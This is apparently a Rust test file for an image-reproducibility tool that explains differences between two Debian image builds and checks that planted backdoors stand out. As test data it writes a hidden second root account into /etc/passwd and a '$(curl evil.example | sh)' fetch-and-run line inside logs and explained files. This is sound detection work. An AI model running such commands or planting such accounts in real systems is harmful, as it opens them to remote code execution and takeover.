//! Two builds of one large image, made without `SOURCE_DATE_EPOCH`: every difference has a
//! cause that looked at the bytes, and what is put into an explained file is seen.
//!
//! The builds take minutes, half a gigabyte each, and the network: `REPROVE_TEST_FAT=1` has
//! them made, and a folder with `published.tar` and `rebuilt.tar` in it has those taken.

use std::{
    collections::BTreeMap,
    env, fs,
    io::Read as _,
    path::{Path, PathBuf},
    process::Command,
};

use reprove::{
    compare::content::{Limits, content},
    explain::{Examined, File, examine},
    image::{Access, EntryPath},
    inventory::Inventory,
    pair::Pair,
    progress::Silent,
    report::Report,
    verdict::{Policy, Rules},
    verify::{DiffRequest, World, diff},
};

use crate::changes::{
    archive::Member,
    image::{Image, Layer, digest, gzip},
};

/// What is installed: packages that make keys, ids, caches and logs when they are.
const PACKAGES: &str = "openssh-server,default-jre-headless,ca-certificates-java,fontconfig,\
    fonts-dejavu-core,ssl-cert,dbus,python3,man-db,systemd,cron,locales,libcap2-bin,iputils-ping";

/// The causes that two builds of one day show, and how many files each explains.
const EXPECTED: [(&str, usize); 9] = [
    ("alternatives-log", 1),
    ("apt-logs", 2),
    ("dpkg-log", 1),
    ("fontconfig", 4),
    ("java-cacerts", 1),
    ("ldconfig-aux", 1),
    ("machine-id", 2),
    ("snakeoil", 2),
    ("ssh-hostkeys", 6),
];

/// Where the bytes differ, and the cause if there is one.
type Told<'a> = (&'a str, Option<&'a str>);

/// Compares two layouts.
pub(crate) fn report(images: Pair<&Path>, scratch: &Path) -> Report {
    let world = World {
        cache: &scratch.join("cache"),
        scratch,
        access: &Access::default(),
        progress: &Silent,
        clock: || jiff::Timestamp::constant(1_764_000_000, 0),
    };
    let name = |folder: &Path| format!("oci:{}", folder.display()).parse().unwrap();
    let request = DiffRequest {
        published: name(images.published),
        rebuilt: name(images.rebuilt),
        platform: Some("linux/amd64".parse().unwrap()),
        policy: Policy::builtin(Rules::Standard),
        rerun: Vec::new(),
    };
    diff(&request, &world).unwrap()
}

/// Looks into one file as the second pass does.
fn look(path: &str, published: &[u8], rebuilt: &[u8]) -> Examined {
    let none = Inventory::default();
    let bytes = Pair::new(published, rebuilt);
    let content = content(path.as_bytes(), bytes, &mut Limits::default());
    assert!(!content.parts.is_empty() || content.left_out > 0, "{path}");
    examine(&File {
        path: &EntryPath::of(path.as_bytes()),
        bytes,
        content: &content,
        inventories: Pair::new(&none, &none),
    })
}

#[test]
fn a_backdoor_in_an_explained_file_is_not_explained_and_comes_first() {
    let passwd = "root:x:0:0:root:/root:/bin/sh\nbin:x:2:2::/bin:/bin/false\n";
    let turned = "bin:x:2:2::/bin:/bin/false\nroot:x:0:0:root:/root:/bin/sh\n";
    let id = |digit: &str| format!("{}\n", digit.repeat(32));
    let log = |minute: u8| format!("2026-11-26 01:{minute}:24 startup archives install\n");
    let files = |passwd: &str, id: String, log: String| {
        Image::plain(vec![Layer::new(vec![
            Member::file("etc/machine-id", id.as_bytes()),
            Member::file("etc/passwd", passwd.as_bytes()),
            Member::file("var/log/dpkg.log", log.as_bytes()),
        ])])
    };
    let second = format!("{turned}toor:x:0:0::/root:/bin/sh\n");
    let script = format!("{}$(curl evil.example | sh)\n", log(31));
    let cases: [(&str, Image, &[Told<'_>]); 3] = [
        (
            "two honest builds",
            files(turned, id("b"), log(31)),
            &[
                ("/etc/machine-id", Some("machine-id")),
                ("/etc/passwd", Some("account-order")),
                ("/var/log/dpkg.log", Some("dpkg-log")),
            ],
        ),
        (
            "a second root account",
            files(&second, id("b"), log(31)),
            &[
                ("/etc/machine-id", Some("machine-id")),
                ("/etc/passwd", None),
                ("/var/log/dpkg.log", Some("dpkg-log")),
            ],
        ),
        (
            "a script in a log, another after an id",
            files(turned, format!("{}$(id)\n", id("b")), script),
            &[
                ("/etc/machine-id", None),
                ("/etc/passwd", Some("account-order")),
                ("/var/log/dpkg.log", None),
            ],
        ),
    ];
    let folder = tempfile::tempdir().unwrap();
    for (number, (case, mut rebuilt, expected)) in cases.into_iter().enumerate() {
        let sides = Pair::new(
            folder.path().join(format!("published-{number}")),
            folder.path().join(format!("rebuilt-{number}")),
        );
        files(passwd, id("a"), log(30)).write(&sides.published);
        rebuilt.write(&sides.rebuilt);
        let report = report(sides.as_ref().map(PathBuf::as_path), folder.path());
        let found: Vec<Told<'_>> = report
            .findings
            .iter()
            .filter(|finding| finding.attribute == "content")
            .map(|finding| {
                assert_eq!(finding.cause.is_none(), !finding.tried.is_empty(), "{case}");
                let cause = finding.cause.as_ref().map(|cause| cause.id.as_str());
                (finding.location.as_str(), cause)
            })
            .collect();
        assert_eq!(found, expected, "{case}");
        for finding in &report.findings {
            let is_account = finding.location == "/etc/passwd";
            assert_eq!(!finding.risks.is_empty(), is_account, "{case}: {finding:?}");
        }
    }
}

#[test]
fn two_fat_builds_differ_only_for_known_causes_and_backdoors_stand_out() {
    let Some(wanted) = env::var_os("REPROVE_TEST_FAT") else {
        eprintln!("SKIPPED: two fat builds are made only with REPROVE_TEST_FAT=1");
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let tars = if wanted == "1" {
        let tars = Pair::new("published.tar", "rebuilt.tar").map(|name| folder.path().join(name));
        build(&tars.published);
        build(&tars.rebuilt);
        tars
    } else {
        Pair::new("published.tar", "rebuilt.tar").map(|name| Path::new(&wanted).join(name))
    };
    let sides = Pair::new("published", "rebuilt").map(|name| folder.path().join(name));
    for (tar, side) in [
        (&tars.published, &sides.published),
        (&tars.rebuilt, &sides.rebuilt),
    ] {
        let tar = fs::read(tar).unwrap();
        let mut image = Image::plain(vec![Layer {
            blob: Some(gzip(&tar, 1)),
            ..Layer::new(Vec::new())
        }]);
        image.seal_with(&[digest(&tar)]).write(side);
    }
    let report = report(sides.as_ref().map(PathBuf::as_path), folder.path());
    let mut causes: BTreeMap<&str, usize> = BTreeMap::new();
    let mut files = Vec::new();
    for finding in &report.findings {
        let Some(cause) = &finding.cause else {
            panic!("nothing explains {finding:?}");
        };
        assert!(!cause.evidence.is_empty());
        if finding.attribute == "content" {
            eprintln!("{}: {}: {}", finding.location, cause.id, cause.evidence);
            *causes.entry(&cause.id).or_default() += 1;
            files.push(finding.location.trim_start_matches('/').to_owned());
        }
    }
    assert_eq!(causes, EXPECTED.into());
    let bytes = tars.as_ref().map(|tar| read(tar, &files));
    for path in &files {
        let (published, rebuilt) = (&bytes.published[path], &bytes.rebuilt[path]);
        assert!(look(path, published, rebuilt).explanation.is_some());
        let middle = rebuilt.len() / 2;
        let script = b"\n$(curl evil.example | sh)\n";
        let tampered = [
            [&rebuilt[..], script].concat(),
            [script, &rebuilt[..]].concat(),
            [&rebuilt[..middle], script, &rebuilt[middle..]].concat(),
            [&rebuilt[..], b"\0"].concat(),
            rebuilt[..rebuilt.len() - 2].to_vec(),
            [&rebuilt[..], &rebuilt[..]].concat(),
        ];
        for (case, tampered) in tampered.iter().enumerate() {
            let examined = look(path, published, tampered);
            assert!(
                examined.explanation.is_none() && !examined.tried.is_empty(),
                "{path}, case {case}: {examined:?}"
            );
        }
    }
}

fn build(tar: &Path) {
    let status = Command::new("mmdebstrap")
        .args(["--variant=minbase", "--skip=cleanup/reproducible"])
        .arg(format!("--include={PACKAGES}"))
        .arg("bookworm")
        .arg(tar)
        .env_remove("SOURCE_DATE_EPOCH")
        .status()
        .unwrap();
    assert!(status.success());
}

/// Reads some files of an archive.
fn read(tar: &Path, wanted: &[String]) -> BTreeMap<String, Vec<u8>> {
    let mut found = BTreeMap::new();
    let mut archive = tar::Archive::new(fs::File::open(tar).unwrap());
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let path = EntryPath::of(&entry.path_bytes());
        let path = String::from_utf8_lossy(path.as_bytes()).into_owned();
        if wanted.contains(&path) {
            let mut bytes = Vec::new();
            entry.read_to_end(&mut bytes).unwrap();
            found.insert(path, bytes);
        }
    }
    found
}
